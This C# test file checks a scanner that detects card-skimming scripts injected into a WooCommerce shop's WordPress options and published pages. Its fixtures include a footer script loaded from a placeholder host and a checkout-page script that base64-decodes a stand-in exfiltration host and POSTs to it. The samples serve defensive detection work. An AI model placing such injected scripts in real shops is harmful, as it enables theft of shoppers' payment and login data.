using FluentAssertions;

namespace CaseManagement.Shops.Tests.ShopActions;

public sealed class when_scanning_woocommerce_for_skimmers
{
    private const string FooterScripts = """a:1:{s:6:"footer";s:73:"<script src=\"https:\/\/cdn.Skim-Stats.example\/s.js\" async><\/script>";}""";

    private static async Task PostAsync(WordPressShop shop, long id, string type, string status, string title, string content) =>
        await shop.Database.ExecuteAsync($"""
            INSERT INTO `{shop.Prefix}posts` (ID, post_author, post_date, post_date_gmt, post_content, post_title, post_excerpt, post_status, post_name,
                                              to_ping, pinged, post_modified, post_modified_gmt, post_content_filtered, post_type)
            VALUES (@id, 1, '2026-03-02', '2026-03-02', @content, @title, '', @status, @title, '', '', '2026-03-02', '2026-03-02', '', @type)
            """, ("@id", id), ("@content", content), ("@title", title), ("@status", status), ("@type", type));

    [Fact]
    public async Task script_in_an_option_and_in_a_published_page_is_found_with_its_hosts()
    {
        await using var shop = await WordPressShop.CreateAsync();
        await shop.Rows.OptionAsync("hfcm_scripts", FooterScripts);
        const string checkout =
            """<p>Pay safely</p><script>var u=atob('aHR0cHM6Ly9leGZpbC5leGFtcGxlLm5ldC9j');fetch(u,{method:'POST'})</script><a href="https://www.shop.example/terms">Terms</a>""";
        await PostAsync(shop, 12, "page", "publish", "Checkout", checkout);
        await PostAsync(shop, 13, "page", "draft", "Draft", "<script src=\"https://drafts.example/x.js\"></script>");

        var scan = await shop.Containment.ScanForSkimmersAsync(CancellationToken.None);

        scan.Findings.Select(f => (f.Location, string.Join(",", f.ExternalHosts))).Should().Equal(
            ("k9_options[hfcm_scripts]", "cdn.skim-stats.example"),
            ("k9_posts[ID=12] page 'Checkout'", "exfil.example.net"));
        scan.Findings[1].Why.Should().Be("The published page 'Checkout' holds a <script> tag, atob( (base64 decoding); encoded text in it decodes to readable text; "
            + "it refers to exfil.example.net", "the host hidden in base64 is decoded, and the shop's own host is not external");
        scan.Findings[1].Excerpt.Should().Be(checkout, "content shorter than 300 characters is shown whole");
        scan.Findings[0].Why.Should().StartWith("The option 'hfcm_scripts' (options like theme mods, widgets and header/footer script settings are printed into pages) holds a <script> tag");
    }

    [Fact]
    public async Task a_clean_shop_has_no_findings_but_says_what_it_checked()
    {
        await using var shop = await WordPressShop.CreateAsync();
        await PostAsync(shop, 12, "page", "publish", "About", "<p>About us</p>");
        await shop.Rows.OptionAsync("_transient_feed_0a1b", "<script>cached feed</script>");

        var scan = await shop.Containment.ScanForSkimmersAsync(CancellationToken.None);

        scan.Findings.Should().BeEmpty("a transient is a cache of something else, and the page holds no script");
        scan.Checked.Should().Equal("k9_options: 7 options (transients left out)",
            "k9_posts: 1 published posts, pages, reusable blocks and templates (page, post, wp_block, wp_template, wp_template_part)");
    }
}
